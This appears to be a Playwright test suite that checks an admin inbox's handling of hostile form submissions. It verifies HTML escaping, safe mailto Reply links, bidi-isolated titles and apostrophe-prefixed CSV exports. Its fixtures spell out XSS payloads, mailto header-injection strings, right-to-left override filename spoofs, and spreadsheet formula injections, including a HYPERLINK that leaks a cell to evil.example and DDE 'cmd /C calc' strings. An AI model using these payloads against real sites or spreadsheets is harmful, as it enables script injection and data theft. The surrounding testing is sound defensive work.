import type { BrowserContext, Page } from '@playwright/test'
import { inboxCopy, inboxLimits, type LeadKind } from '#app/content/inbox.ts'
import { newsletterCopy } from '#app/content/newsletter.ts'
import { waitlistCopy } from '#app/content/waitlist.ts'
import { expect, test } from '#tests/support/test.ts'
import { accessibilityViolations } from '../support/axe.ts'
import { openBrowser, viewports, waitForHydration } from '../support/browser.ts'
import {
	type ConsoleServer,
	createFirstOperator,
	type Person,
	rawRequest,
	startConsoleServer,
} from '../support/console-server.ts'
import { htmlErrors } from '../support/html-validator.ts'

const ada: Person = { displayName: 'Ada Admin', email: 'ada@example.com', password: 'violet-harbor-quilt-59' }

// What a hostile visitor types. Each payload would set window.__pwned if it ran.
const IMG = '<img src=x onerror="window.__pwned=1">'
const SCRIPT = '<script>window.__pwned=1</script>'
const BOLD = '<b>bold</b>'
const SCRIPT_URL = 'javascript:window.__pwned=1'
/** Right-to-left override and its end (pop directional formatting). */
const RLO = '\u202E'
const PDF = '\u202C'
/** Left-to-right, right-to-left and first-strong isolates, and the end of an isolate. */
const LRI = '\u2066'
const RLI = '\u2067'
const FSI = '\u2068'
const PDI = '\u2069'
/** Zero-width space, non-joiner, joiner, word joiner and no-break space. */
const ZERO_WIDTH = '\u200B\u200C\u200D\u2060\uFEFF'
/** BEL: the forms refuse only NUL among the control characters, so this one is stored. */
const BEL = '\u0007'
/** An unbroken word of `length` characters. */
const word = (length: number, seed: string) => seed.repeat(Math.ceil(length / seed.length)).slice(0, length)

type SentLead = {
	kind: LeadKind
	path: string
	/** The form post, as the visitor sent it. */
	form: Record<string, string>
	/** The columns the lead's page lists, with the value stored. */
	fields: [column: string, value: string | null][]
	name: string | null
	email: string
	/** A contact message's subject, for its Reply link. */
	subject: string | null
	/** The Source row of the lead's page (set by the form, not typed). */
	source: string | null
	/** The full text the inbox previews under the name. */
	preview: string
	/** Where the export puts each value, by its column name. */
	csv: Record<string, string | null>
}

/** The inbox joins the parts of a preview as PostgreSQL's concat_ws(' · ', …) does: empty parts are left out. */
const joined = (...parts: (string | null)[]) => parts.filter((part) => part !== null).join(' · ')

function contact(form: { name: string; email: string; subject: string; message: string }): SentLead {
	return {
		kind: 'contact',
		path: '/contact',
		form,
		fields: [
			['name', form.name],
			['email', form.email],
			['subject', form.subject],
			['message', form.message],
		],
		name: form.name,
		email: form.email,
		subject: form.subject,
		source: null,
		preview: joined(form.subject, form.message),
		csv: { name: form.name, email: form.email, subject: form.subject, message: form.message },
	}
}

function beta(form: {
	full_name: string
	email: string
	company_name: string
	domain_count: string
	current_solution: string
	why_interested: string
}): SentLead {
	const domains = String(Number(form.domain_count.trim()))
	return {
		kind: 'beta',
		path: '/beta-application',
		form,
		fields: [
			['full_name', form.full_name],
			['email', form.email],
			['company_name', form.company_name],
			['domain_count', domains],
			['current_solution', form.current_solution],
			['why_interested', form.why_interested],
		],
		name: form.full_name,
		email: form.email,
		subject: null,
		source: null,
		preview: joined(form.company_name, `${domains} domains`, form.why_interested),
		csv: {
			name: form.full_name,
			email: form.email,
			company: form.company_name,
			domain_count: domains,
			current_solution: form.current_solution,
			message: form.why_interested,
		},
	}
}

function waitlist(form: { name: string; email: string }): SentLead {
	return {
		kind: 'waitlist',
		path: '/community-interest',
		form,
		fields: [
			['name', form.name],
			['email', form.email],
		],
		name: form.name,
		email: form.email,
		subject: null,
		source: waitlistCopy.source,
		preview: waitlistCopy.source,
		csv: { name: form.name, email: form.email, source: waitlistCopy.source },
	}
}

function newsletter(form: { email: string; name: string; source: string }): SentLead {
	const name = form.name.trim() === '' ? null : form.name
	const source = form.source || newsletterCopy.defaultSource
	return {
		kind: 'newsletter',
		path: '/newsletter',
		form,
		fields: [
			['name', name],
			['email', form.email],
		],
		name,
		email: form.email,
		subject: null,
		source,
		preview: source,
		csv: { name, email: form.email, source },
	}
}

/** The leads, in the order they are sent; the inbox lists them newest first. */
const sent: SentLead[] = [
	contact({
		name: `${IMG} Mallory`,
		// Valid (one @, no spaces), and full of what would add recipients or a body to a mailto: link.
		email: '"?cc=spy.evil.example&bcc=spy2&body=hi"+mallory@example.com',
		subject: `Invoice\r\n${SCRIPT}\tBcc: spy@example.com\r\n${BOLD}\u2028${IMG}`,
		message: `Ring${BEL}the bell.\r\nHello ${BOLD},\r\n\r\n${IMG}\r\n\t${SCRIPT_URL}\r\n${SCRIPT}\r\nBye`,
	}),
	contact({
		name: `=HYPERLINK("https://evil.example/?leak="&A1,"Open me")`,
		email: 'formula.fan@example.com',
		subject: `@SUM(1+1)*cmd|' /C calc'!A0 ${word(160, 'Antidisestablishmentarianism')}`,
		message: `-2+3+cmd|' /C calc'!A0 and then ${word(300, 'Pneumonoultramicroscopic')}`,
	}),
	beta({
		full_name: `${RLO}gnp.exe${PDF} ${LRI}Zed${PDI} ${RLI}زد${PDI} ${FSI}Z${ZERO_WIDTH}ed${PDI} ${RLO}fdp.exe`,
		email: 'zed+beta@example.com',
		company_name: word(200, 'Megacorporation'),
		domain_count: '3',
		current_solution: `+1 555 0100, ${SCRIPT_URL}`,
		why_interested: `${word(300, 'Why')}\n${SCRIPT}\n\t${IMG}`,
	}),
	waitlist({ name: word(200, 'Wolfeschlegelsteinhausen'), email: `${SCRIPT}@example.com` }),
	newsletter({ email: `${SCRIPT_URL}@example.com`, name: '', source: '' }),
	newsletter({
		email: 'tabs@example.com',
		name: `Tab\there\nand a new line ${BOLD} ${ZERO_WIDTH}end`,
		source: 'inbox-test',
	}),
]

/** A name made of nothing but invisible characters. */
const invisible = waitlist({ name: `${ZERO_WIDTH}${LRI}${PDI}`, email: 'invisible@example.com' })
sent.push(invisible)

/** Each lead's id: a fresh database numbers every form's rows from 1, in the order they arrive. */
const ids = new Map<SentLead, number>()
{
	const counts = new Map<LeadKind, number>()
	for (const lead of sent) {
		const id = (counts.get(lead.kind) ?? 0) + 1
		counts.set(lead.kind, id)
		ids.set(lead, id)
	}
}
const leadPath = (lead: SentLead) => `/admin/inbox/${lead.kind}/${ids.get(lead)}`
const byNewest = [...sent].reverse()

/**
 * HTML turns a CR LF or a lone CR into LF: no different on screen. A control character HTML forbids is shown as its
 * visible picture (BEL as ␇), so the operator sees that something is there.
 */
const lines = (text: string) => text.replace(/\r\n?/g, '\n').replaceAll(BEL, '\u2407')

/** The name a page shows: the one typed, or "(no name)" when there is none. */
const shownName = (lead: SentLead) => (lead.name?.trim() ? lead.name : inboxCopy.noName)

/** The name as a page writes it: a name of invisible characters only counts as none. */
const writtenName = (lead: SentLead, as: (name: string) => string = lines) =>
	as(lead === invisible ? inboxCopy.noName : shownName(lead))

/** The inbox's preview: the text on one line, cut to its length in whole characters. */
function shownPreview(text: string) {
	const characters = Array.from(
		Array.from(text)
			.slice(0, inboxLimits.preview * 2)
			.join('')
			.replace(/\s+/g, ' ')
			.trim(),
	)
	return characters.length > inboxLimits.preview
		? `${characters.slice(0, inboxLimits.preview - 1).join('')}…`
		: characters.join('')
}

/**
 * The tab's title: the name (the email when it has no visible one) isolated, so a direction override in it cannot
 * turn the rest; browsers strip and collapse the ASCII whitespace of the <title>.
 */
const tabTitle = (lead: SentLead) =>
	`\u2068${lines(lead === invisible ? lead.email : lead.name?.trim() || lead.email)}\u2069 | ${inboxCopy.title} | Console`
		.replace(/[\t\n\f\r ]+/g, ' ')
		.replace(/^ | $/g, '')

/** The Reply link's subject: "Re: " and the subject, its line breaks and other control characters turned into spaces. */
const replySubject = (subject: string) => `Re: ${subject.replace(/[\p{Cc}\u2028\u2029]+/gu, ' ').trim()}`

/** A CSV cell as a spreadsheet should read it: a value it would run as a formula behind an apostrophe. */
const csvValue = (value: string | null | undefined) =>
	value == null ? '' : /^[=+\-@]/.test(value) ? `'${value}` : value

/** Parses RFC 4180 CSV (CRLF between records); throws on anything else, such as a bare line break outside quotes. */
function parseCsv(text: string): string[][] {
	const records: string[][] = []
	let record: string[] = []
	let cell = ''
	let quoted = false
	let fieldStart = true
	for (let i = 0; i < text.length; i++) {
		const c = text[i]
		if (quoted) {
			if (c === '"' && text[i + 1] === '"') {
				cell += '"'
				i++
			} else if (c === '"') {
				quoted = false
				if (!['', ',', '\r'].includes(text[i + 1] ?? '')) throw new Error(`text after a closing quote at ${i}`)
			} else cell += c
			continue
		}
		if (c === '"' && fieldStart) {
			quoted = true
			fieldStart = false
		} else if (c === ',') {
			record.push(cell)
			cell = ''
			fieldStart = true
		} else if (c === '\r' && text[i + 1] === '\n') {
			record.push(cell)
			records.push(record)
			record = []
			cell = ''
			fieldStart = true
			i++
		} else if (c === '\r' || c === '\n' || c === '"') {
			throw new Error(`unquoted ${JSON.stringify(c)} at ${i}`)
		} else {
			cell += c
			fieldStart = false
		}
	}
	if (quoted) throw new Error('unterminated quote')
	if (cell !== '' || record.length) throw new Error('the last record does not end with CRLF')
	return records
}

test.describe('hostile input in the inbox', () => {
	let site: ConsoleServer
	let cookie: string
	let session: { name: string; value: string; domain: string; path: string; httpOnly: boolean; sameSite: 'Lax' }

	test.beforeAll(async () => {
		test.setTimeout(120_000)
		site = await startConsoleServer({ env: { RATE_LIMIT_MAX: '100' } })
		const first = await createFirstOperator(site, ada)
		cookie = first.cookie
		session = {
			name: first.session?.name ?? '',
			value: first.session?.value ?? '',
			domain: 'localhost',
			path: '/admin',
			httpOnly: true,
			sameSite: 'Lax',
		}
		// One at a time, so that they arrive in this order.
		for (const lead of sent) {
			const response = await fetch(`${site.url}${lead.path}`, {
				method: 'POST',
				headers: { 'content-type': 'application/x-www-form-urlencoded', origin: site.url },
				body: new URLSearchParams(lead.form),
			})
			expect([lead.path, response.status]).toEqual([lead.path, 200])
		}
	})
	test.afterAll(async () => {
		await site?.server.stop()
	})

	/** The inbox's rows as the operator reads them: which lead, its name, email and preview, and the checkbox's name. */
	function inboxRows(page: Page) {
		return page.locator('main table tbody tr').evaluateAll((rows) =>
			rows.map((row) => {
				const box = row.querySelector<HTMLInputElement>('input[type="checkbox"]')
				const spans = row.querySelectorAll('th > bdi')
				return {
					href: row.querySelector('th a')?.getAttribute('href') ?? null,
					name: row.querySelector('th a')?.textContent ?? null,
					email: spans[0]?.textContent ?? null,
					preview: spans[1]?.textContent ?? null,
					select: box?.getAttribute('aria-label') ?? null,
				}
			}),
		)
	}

	async function expectInbox(page: Page) {
		const rows = await inboxRows(page)
		expect(rows.map((row) => ({ ...row, name: row.name && lines(row.name) }))).toEqual(
			byNewest.map((lead) => ({
				href: leadPath(lead),
				name: writtenName(lead),
				email: lines(lead.email),
				preview: lines(shownPreview(lead.preview)),
				select: writtenName(lead, (name) => inboxCopy.selectLead(lines(name))),
			})),
		)
	}

	/** What the lead's page shows: the heading, the email under it, and each row of "What they sent". */
	function leadPageText(page: Page) {
		return page.locator('main').evaluate((main) => {
			const heading = main.querySelector('h1')
			return {
				name: heading?.textContent ?? null,
				email: heading?.nextElementSibling?.textContent ?? null,
				fields: [...main.querySelectorAll('dl dt')].map((dt) => [
					dt.textContent ?? '',
					// biome-ignore lint/performance/useDomNodeTextContent: the text as the page renders it, line breaks and all
					(dt.nextElementSibling as HTMLElement | null)?.innerText ?? '',
				]),
			}
		})
	}

	async function expectLeadPage(page: Page, lead: SentLead) {
		const shown = await leadPageText(page)
		const expected = lead.fields.map(([column, value]) => [
			inboxCopy.fieldLabels[column] ?? column,
			value === null || value === '' ? inboxCopy.lead.empty : lines(value),
		])
		if (lead.source) expected.push([inboxCopy.lead.source, lead.source])
		expect({
			name: shown.name && lines(shown.name),
			email: shown.email,
			fields: shown.fields
				.filter(([label]) => label !== inboxCopy.lead.received)
				.map(([label, text]) => [label, lines(text ?? '')]),
		}).toEqual({ name: writtenName(lead), email: lines(lead.email), fields: expected })
		expect(await page.title()).toEqual(tabTitle(lead))

		const reply = page.getByRole('link', { name: inboxCopy.lead.reply })
		if (lead.subject === null) {
			await expect(reply).toHaveCount(0)
			return
		}
		const href = new URL((await reply.getAttribute('href')) ?? '')
		expect({
			protocol: href.protocol,
			to: decodeURIComponent(href.pathname),
			parameters: [...href.searchParams.keys()],
			subject: href.searchParams.get('subject'),
			hash: href.hash,
		}).toEqual({
			protocol: 'mailto:',
			to: lead.email,
			parameters: ['subject'],
			subject: replySubject(lead.subject),
			hash: '',
		})
	}

	/** Nothing from the leads ran or became markup: no dialog, no flag, no element, no handler, no script address. */
	async function expectNothingRan(page: Page, dialogs: string[], errors: string[]) {
		const state = await page.evaluate(() => {
			const main = document.querySelector('main')
			const handlers: string[] = []
			for (const element of document.querySelectorAll('*')) {
				for (const attribute of element.attributes) {
					if (/^on/i.test(attribute.name)) handlers.push(`${element.tagName} ${attribute.name}`)
				}
			}
			const scriptAddresses: string[] = []
			for (const element of document.querySelectorAll('[href], [src], [action], [formaction]')) {
				for (const name of ['href', 'src', 'action', 'formaction']) {
					const value = element.getAttribute(name)
					if (value !== null && new URL(value, document.baseURI).protocol === 'javascript:') {
						scriptAddresses.push(`${element.tagName} ${name}=${value}`)
					}
				}
			}
			return {
				pwned: (window as { __pwned?: unknown }).__pwned ?? null,
				main: Boolean(main),
				elements: main?.querySelectorAll('img, script, b, iframe, object, embed').length ?? null,
				handlers,
				scriptAddresses,
			}
		})
		expect(state).toEqual({ pwned: null, main: true, elements: 0, handlers: [], scriptAddresses: [] })
		expect(dialogs).toEqual([])
		expect(errors).toEqual([])
	}

	/** How far the document scrolls sideways, and what typed text sticks out of the window. */
	function sideways(page: Page) {
		return page.evaluate(() => ({
			scroll: Math.max(0, document.documentElement.scrollWidth - window.innerWidth),
			outside: [...document.querySelectorAll('main h1, main p, main dd')]
				.filter((element) => element.getBoundingClientRect().right > window.innerWidth + 0.5)
				.map((element) => `${element.tagName}: ${element.textContent?.slice(0, 40)}`),
		}))
	}

	async function signedInPage(context: BrowserContext) {
		await context.addCookies([session])
		const page = await context.newPage()
		const dialogs: string[] = []
		const errors: string[] = []
		page.on('dialog', (dialog) => {
			dialogs.push(dialog.message())
			void dialog.dismiss()
		})
		page.on('pageerror', (error) => errors.push(error.message))
		return { page, dialogs, errors }
	}

	test.describe('with JavaScript', () => {
		let context: BrowserContext
		let page: Page
		let dialogs: string[]
		let errors: string[]

		test.beforeAll(async ({ browser }) => {
			context = await openBrowser(browser)
			;({ page, dialogs, errors } = await signedInPage(context))
		})
		test.afterAll(async () => {
			await context?.close()
		})

		test('lists every lead with its name, email and preview as typed, at phone and desktop width, and runs none of it', async () => {
			test.setTimeout(120_000)
			for (const [width, viewport] of Object.entries(viewports)) {
				await page.setViewportSize(viewport)
				await page.goto(`${site.url}/admin/inbox`)
				await waitForHydration(page)
				await expectInbox(page)
				await expectNothingRan(page, dialogs, errors)
				// The table may scroll inside its frame; the page itself does not.
				expect([width, (await sideways(page)).scroll]).toEqual([width, 0])
				// The inbox asks for new leads every few seconds; the answer is rendered by the browser, still as text.
				await page.waitForResponse((response) => new URL(response.url()).pathname === '/admin/inbox.data', {
					timeout: (inboxLimits.refreshSeconds + 25) * 1000,
				})
				await expectInbox(page)
				await expectNothingRan(page, dialogs, errors)
			}
		})

		test("shows each lead's page with every value as typed, the name as its title and a safe Reply link, at phone and desktop width", async () => {
			test.setTimeout(300_000)
			for (const [width, viewport] of Object.entries(viewports)) {
				await page.setViewportSize(viewport)
				for (const lead of sent) {
					await page.goto(`${site.url}${leadPath(lead)}`)
					await waitForHydration(page)
					await expectLeadPage(page, lead)
					await expectNothingRan(page, dialogs, errors)
					expect([width, leadPath(lead), await sideways(page)]).toEqual([
						width,
						leadPath(lead),
						{ scroll: 0, outside: [] },
					])
					expect([width, leadPath(lead), await accessibilityViolations(page)]).toEqual([width, leadPath(lead), []])
				}
			}
		})

		test('shows the same text when the operator goes from the inbox to each lead and back without reloading', async () => {
			test.setTimeout(180_000)
			await page.setViewportSize(viewports.desktop)
			await page.goto(`${site.url}/admin/inbox`)
			await waitForHydration(page)
			await page.evaluate(() => {
				;(window as { stayed?: boolean }).stayed = true
			})
			for (const lead of sent.filter((other) => other !== invisible)) {
				await page.locator(`main a[href="${leadPath(lead)}"]`).click()
				await page.waitForURL(`${site.url}${leadPath(lead)}`)
				await page.locator('main dl').waitFor()
				await expectLeadPage(page, lead)
				await expectNothingRan(page, dialogs, errors)
				await page.getByRole('link', { name: inboxCopy.lead.back }).click()
				await page.waitForURL(`${site.url}/admin/inbox`)
				await page.locator('main table').waitFor()
				await expectInbox(page)
				await expectNothingRan(page, dialogs, errors)
			}
			// Every page was rendered by the browser, none loaded anew.
			expect(await page.evaluate(() => (window as { stayed?: boolean }).stayed)).toBe(true)
		})

		test('gives a lead whose name is only invisible characters a link the operator can see and click, and a visible heading', async () => {
			test.setTimeout(60_000)
			await page.setViewportSize(viewports.desktop)
			await page.goto(`${site.url}/admin/inbox`)
			await waitForHydration(page)
			const link = page.locator(`main a[href="${leadPath(invisible)}"]`)
			await expect(link).toHaveCount(1)
			await expect(link).toBeVisible()
			await link.click({ timeout: 10_000 })
			await page.waitForURL(`${site.url}${leadPath(invisible)}`)
			await page.locator('main dl').waitFor()
			// The heading's text, not its (full-width) block, takes room on the screen.
			const headingWidth = await page.locator('main h1').evaluate((heading) => {
				const range = document.createRange()
				range.selectNodeContents(heading)
				return range.getBoundingClientRect().width
			})
			expect(headingWidth).toBeGreaterThan(0)
		})
	})

	test.describe('without JavaScript', () => {
		let context: BrowserContext
		let page: Page
		let dialogs: string[]
		let errors: string[]

		test.beforeAll(async ({ browser }) => {
			context = await openBrowser(browser, { javaScriptEnabled: false })
			;({ page, dialogs, errors } = await signedInPage(context))
		})
		test.afterAll(async () => {
			await context?.close()
		})

		test('shows the same text in the inbox and on each lead page', async () => {
			test.setTimeout(120_000)
			await page.goto(`${site.url}/admin/inbox`)
			await expectInbox(page)
			await expectNothingRan(page, dialogs, errors)
			for (const lead of sent) {
				await page.goto(`${site.url}${leadPath(lead)}`)
				await expectLeadPage(page, lead)
				await expectNothingRan(page, dialogs, errors)
			}
		})
	})

	test('serves the inbox and lead pages as valid HTML that holds the markup leads sent only as escaped text', async () => {
		test.setTimeout(120_000)
		const documents: { name: string; html: string }[] = []
		for (const path of ['/admin/inbox', ...sent.map(leadPath)]) {
			const answer = await rawRequest(`${site.url}${path}`, { cookie })
			expect([path, answer.status]).toEqual([path, 200])
			documents.push({ name: path, html: answer.body })
		}
		for (const { name, html } of documents) {
			const raw = ['<img src=x', '<script>window.__pwned', '<b>bold</b>', 'href="javascript:', "href='javascript:"]
			expect([name, raw.filter((markup) => html.includes(markup))]).toEqual([name, []])
		}
		const escaped = (html: string) => html.includes('&lt;img src=x onerror=&quot;window.__pwned=1&quot;&gt;')
		expect(escaped(documents.find((d) => d.name === '/admin/inbox')?.html ?? '')).toBe(true)
		expect(escaped(documents.find((d) => d.name === leadPath(sent[0] as SentLead))?.html ?? '')).toBe(true)
		expect(await htmlErrors(documents)).toEqual([])
	})

	test('refuses an export whose filter the inbox does not offer, instead of exporting everything', async () => {
		for (const file of ['export.csv', 'export.xlsx']) {
			for (const query of ['form=nope', 'status=deleted', 'assigned=someone', 'from=2026-02-30', 'to=yesterday']) {
				const answer = await rawRequest(`${site.url}/admin/inbox/${file}?${query}`, {
					cookie,
					headers: { 'sec-fetch-site': 'same-origin' },
				})
				expect([file, query, answer.status]).toEqual([file, query, 400])
				expect(answer.body).toBe(inboxCopy.invalidExportFilter)
			}
		}
	})

	test('exports the inbox as CSV with an apostrophe before values a spreadsheet would run, and every other value byte for byte', async () => {
		test.setTimeout(60_000)
		const answer = await rawRequest(`${site.url}/admin/inbox/export.csv`, {
			cookie,
			headers: { 'sec-fetch-site': 'same-origin' },
		})
		expect([answer.status, answer.response.headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8'])
		// A UTF-8 byte-order mark first, so Excel on Windows reads the names as they were typed (text() drops it).
		const bytes = await fetch(`${site.url}/admin/inbox/export.csv`, {
			headers: { cookie, 'sec-fetch-site': 'same-origin' },
		}).then(async (response) => new Uint8Array(await response.arrayBuffer()).slice(0, 3))
		expect([...bytes]).toEqual([0xef, 0xbb, 0xbf])
		const [header = [], ...records] = parseCsv(answer.body)
		const cell = (record: string[], column: string) => {
			const index = header.indexOf(column)
			expect([column, index >= 0]).toEqual([column, true])
			return record[index]
		}
		const columns = ['name', 'email', 'company', 'domain_count', 'current_solution', 'subject', 'message', 'source']
		expect(
			records.map((record) => ({
				lead: `${cell(record, 'form')}:${cell(record, 'id')}`,
				...Object.fromEntries(columns.map((column) => [column, cell(record, column)])),
				page_path: cell(record, 'page_path'),
			})),
		).toEqual(
			byNewest.map((lead) => ({
				lead: `${lead.kind}:${ids.get(lead)}`,
				...Object.fromEntries(columns.map((column) => [column, csvValue(lead.csv[column])])),
				page_path: '',
			})),
		)
		// The formulas were sent and are there, each behind its apostrophe.
		expect(answer.body).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open me"")"`)
		expect(answer.body).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`)
		// No cell of the whole file starts as a formula.
		const formulas = records.flat().filter((value) => /^[=+\-@]/.test(value))
		expect(formulas).toEqual([])
	})
})
